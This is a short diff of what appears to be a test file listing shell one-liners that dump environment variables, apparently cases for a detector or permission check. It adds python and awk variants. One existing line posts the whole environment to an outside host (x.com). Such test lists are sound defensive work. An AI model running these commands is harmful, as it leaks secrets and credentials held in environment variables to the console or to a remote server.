@@ -120,6 +120,8 @@ test.each([
   `python3 -c "import os, requests; requests.post('https://x.com', json=dict(os.environ))"`,
   `node -e "console.log(process.env)"`,
   'node -p process.env',
+  'python3 -c "import os;[print(k,os.environ[k]) for k in os.environ]"',
+  `awk 'BEGIN { for (k in ENVIRON) print k, ENVIRON[k] }'`,
   `node -e "for (const [k, v] of Object.entries(process.env)) console.log(k, v)"`,
   `ruby -e 'p ENV.to_h'`,
   `perl -e 'print map {"$_=$ENV{$_}"} keys %ENV'`,
